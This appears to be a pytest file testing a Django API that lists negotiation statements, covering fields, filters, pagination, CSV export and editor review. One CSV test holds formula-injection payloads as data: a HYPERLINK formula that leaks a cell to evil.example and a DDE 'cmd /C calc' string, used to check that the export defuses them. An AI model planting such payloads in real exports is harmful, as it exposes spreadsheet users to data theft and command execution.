"""GET /api/statements/: the contract's fields, every filter, pagination, CSV; the editors' review."""
import csv
import datetime as dt
import io

import pytest

from positions.models import Statement
from tests.factories import ArticleFactory, History, PersonFactory, StatementFactory

pytestmark = pytest.mark.django_db

URL = "/api/statements/"


@pytest.fixture
def h():
    h = History(rounds=3, parties=("AA", "BB", "CC"), issues=("alpha", "beta"))
    speaker = PersonFactory(name="A Spokesperson", party=h.parties["AA"])
    h.s = {
        "aa1": h.say("AA", "alpha", "demands", 1, speaker=speaker),
        "bb1": h.say("BB", "", "", 1, links={"alpha": "rejects", "beta": "open"}),
        "bb2": h.say("BB", "beta", "rejects", 2, day=3),
        "cc2": h.say("CC", "alpha", "open", 2, status="confirmed"),
        "gone": h.say("AA", "beta", "rejects", 3, status="rejected"),
    }
    return h


def ids(response):
    assert response.status_code == 200, response.content
    return {row["id"] for row in response.json()["results"]}


def test_a_statement_has_exactly_the_contract_fields(api, h):
    statement = h.s["aa1"]
    row = next(r for r in api.get(URL).json()["results"] if r["id"] == statement.pk)
    assert set(row) == {"id", "text", "kind", "speaker", "party", "article", "stated_on", "round", "confidence",
                        "status", "links"}
    assert row["text"] == statement.text
    assert row["kind"] in {"direct", "reported"}
    assert row["speaker"] == {"id": statement.speaker_id, "name": "A Spokesperson"}
    assert row["party"] == {"code": "AA", "name": h.parties["AA"].name}
    assert row["article"] == {"id": statement.article_id, "url": statement.article.url,
                              "title": statement.article.title, "published": statement.article.published.isoformat()}
    assert row["stated_on"] == statement.stated_on.isoformat()
    assert row["round"] == {"slug": "r1", "name": h.round(1).name}
    assert 0 <= row["confidence"] <= 1
    assert row["status"] == "auto"
    assert row["links"] == [{"issue": "alpha", "stance": "demands", "confidence": 0.5}]


def test_nullable_references_are_null(api, h):
    bare = StatementFactory(negotiation=h.negotiation, party=None, speaker=None, round=None, stated_on=None)
    row = api.get(URL, {"article": bare.article_id}).json()["results"][0]
    assert (row["speaker"], row["party"], row["round"], row["stated_on"], row["links"]) == (None, None, None, None, [])


def test_rejected_statements_are_left_out_unless_status_asks(api, h):
    assert h.s["gone"].pk not in ids(api.get(URL))
    assert ids(api.get(URL, {"status": "rejected"})) == {h.s["gone"].pk}
    assert ids(api.get(URL, {"status": "confirmed"})) == {h.s["cc2"].pk}
    assert ids(api.get(URL, {"status": "auto,rejected"})) == {h.s[k].pk for k in ("aa1", "bb1", "bb2", "gone")}


@pytest.mark.parametrize(
    "params, expected",
    [
        ({"party": "BB"}, {"bb1", "bb2"}),
        ({"issue": "beta"}, {"bb1", "bb2"}),
        ({"issue": "alpha", "stance": "rejects"}, {"bb1"}),
        ({"issue": "beta", "stance": "rejects"}, {"bb2"}),  # bb1 rejects alpha, not beta: same link
        ({"stance": "open"}, {"bb1", "cc2"}),
        ({"round": "r2"}, {"bb2", "cc2"}),
        ({"since": "2022-01-10"}, {"bb2", "cc2"}),
        ({"since": "2022-01-11"}, {"bb2"}),
        ({"until": "2022-01-03"}, {"aa1", "bb1"}),
        ({"party": "BB", "round": "r1"}, {"bb1"}),
    ],
)
def test_filters(api, h, params, expected):
    assert ids(api.get(URL, params)) == {h.s[k].pk for k in expected}


def test_filter_by_article_speaker_and_negotiation(api, h):
    assert ids(api.get(URL, {"article": h.s["bb2"].article_id})) == {h.s["bb2"].pk}
    assert ids(api.get(URL, {"speaker": h.s["aa1"].speaker_id})) == {h.s["aa1"].pk}
    other = History(rounds=1, parties=("AA",), issues=("alpha",))
    elsewhere = other.say("AA", "alpha", "demands", 1)
    assert ids(api.get(URL, {"negotiation": other.negotiation.slug})) == {elsewhere.pk}
    # Slugs are unique per negotiation only: with `negotiation`, `round` and `issue` mean that one's.
    assert ids(api.get(URL, {"negotiation": other.negotiation.slug, "round": "r1", "issue": "alpha"})) == {elsewhere.pk}
    assert elsewhere.pk in ids(api.get(URL, {"round": "r1"}))


def test_since_is_on_stated_on_not_published(api, h):
    late_report = ArticleFactory(published=dt.date(2022, 3, 1))
    old_words = StatementFactory(negotiation=h.negotiation, article=late_report, stated_on=dt.date(2021, 12, 1))
    assert old_words.pk not in ids(api.get(URL, {"since": "2022-01-01"}))


def test_statements_are_newest_first_and_paginated(api, h):
    page = api.get(URL, {"page_size": 2}).json()
    assert set(page) == {"count", "next", "previous", "results"}
    assert page["count"] == 4
    assert [r["id"] for r in page["results"]] == [h.s["bb2"].pk, h.s["cc2"].pk]  # newest said first
    assert page["previous"] is None and "page=2" in page["next"]
    second = api.get(page["next"]).json()
    assert second["next"] is None and second["previous"] is not None
    assert len(second["results"]) == 2


def test_statements_are_ordered_by_the_day_said_then_article_and_offset(api, h):
    """Not by when they were ingested: a report ingested late about an old day comes after newer words."""
    late = ArticleFactory(published=dt.date(2022, 3, 1))
    old_words = StatementFactory(negotiation=h.negotiation, article=late, stated_on=dt.date(2021, 12, 1), start=50,
                              end=60)
    first_in_article = StatementFactory(negotiation=h.negotiation, article=late, stated_on=dt.date(2021, 12, 1),
                                        start=10, end=20)
    undated = StatementFactory(negotiation=h.negotiation, article=ArticleFactory(published=None), stated_on=None)
    order = [r["id"] for r in api.get(URL, {"page_size": 50}).json()["results"]]
    assert order == [h.s["bb2"].pk, h.s["cc2"].pk, h.s["bb1"].pk, h.s["aa1"].pk,
                     first_in_article.pk, old_words.pk, undated.pk]


def test_page_size_is_clamped_to_500(api, h):
    article = ArticleFactory()
    Statement.objects.bulk_create(
        [Statement(negotiation=h.negotiation, article=article, text=f"s{i}", start=i, end=i + 1) for i in range(510)]
    )
    page = api.get(URL, {"page_size": 10000}).json()
    assert page["count"] == 514
    assert len(page["results"]) == 500
    assert len(api.get(URL).json()["results"]) == 50  # the default


def test_csv(api, h):
    response = api.get(URL, {"format": "csv", "party": "BB"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert {int(r["id"]) for r in rows} == {h.s["bb1"].pk, h.s["bb2"].pk}
    assert {"party.code", "article.url", "links"} <= set(rows[0])
    assert all(r["party.code"] == "BB" for r in rows)


@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example/?"&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0",
                                  "-2+3 of the drafts were rejected", "+1 demand", "\t=1+1", " =1+1"])
def test_csv_cells_never_start_a_formula(api, h, text):
    """Statement text and article titles (a fetched page's <title> too) reached a spreadsheet as formulas."""
    statement = h.s["bb2"]
    Statement.objects.filter(pk=statement.pk).update(text=text)
    statement.article.__class__.objects.filter(pk=statement.article_id).update(title=text)
    rows = list(csv.DictReader(io.StringIO(api.get(URL, {"format": "csv", "party": "BB"}).content.decode())))
    row = next(r for r in rows if int(r["id"]) == statement.pk)
    assert row["article.title"] == "'" + text
    assert row["text"][:1] not in "=+-@\t" and text.strip(" \t=+-@")[:8] in row["text"]  # text is evidence-cleaned
    assert not any(cell.lstrip()[:1] in "=+-@" for r in rows for cell in r.values() if cell)


def test_detail_shows_any_status(api, h):
    response = api.get(f"{URL}{h.s['gone'].pk}/")
    assert response.status_code == 200
    assert response.json()["status"] == "rejected"
    assert api.get(f"{URL}999999/").status_code == 404


def test_editors_review_statements_and_positions_follow(api, editor_api, h):
    target = h.s["bb2"]
    url = f"{URL}{target.pk}/review/"
    assert api.post(url, {"status": "rejected"}, format="json").status_code == 403
    assert h.stance("BB", "beta", 2) == "rejects"
    response = editor_api.post(url, {"status": "rejected"}, format="json")
    assert response.status_code == 200, response.content
    assert response.json()["status"] == "rejected"
    assert h.stance("BB", "beta", 2) == "open"
    assert editor_api.post(url, {"status": "maybe"}, format="json").status_code == 400
    assert editor_api.post(f"{URL}999999/review/", {"status": "confirmed"}, format="json").status_code == 404


@pytest.fixture
def clean_cache():
    from django.core.cache import cache

    cache.clear()
    yield cache
    cache.clear()  # no count kept here may leak into another test


def test_large_counts_are_kept_briefly_small_ones_are_exact(api, h, monkeypatch, clean_cache):
    from positions.api import pagination

    cache = clean_cache
    assert api.get(URL).json()["count"] == 4
    StatementFactory(negotiation=h.negotiation)
    assert api.get(URL).json()["count"] == 5  # below the threshold: counted every time
    monkeypatch.setattr(pagination, "COUNT_CACHE_MIN", 5)
    assert api.get(URL).json()["count"] == 5
    StatementFactory(negotiation=h.negotiation)
    assert api.get(URL).json()["count"] == 5  # kept for COUNT_CACHE_SECONDS
    assert api.get(URL, {"party": "BB"}).json()["count"] == 2  # another query, its own count
    cache.clear()
    assert api.get(URL).json()["count"] == 6


def test_a_statement_with_two_matching_links_is_listed_once(api, h):
    both = h.say("AA", "", "", 2, links={"alpha": "open", "beta": "open"})
    page = api.get(URL, {"stance": "open"}).json()
    assert [r["id"] for r in page["results"]].count(both.pk) == 1
    assert page["count"] == len(page["results"])
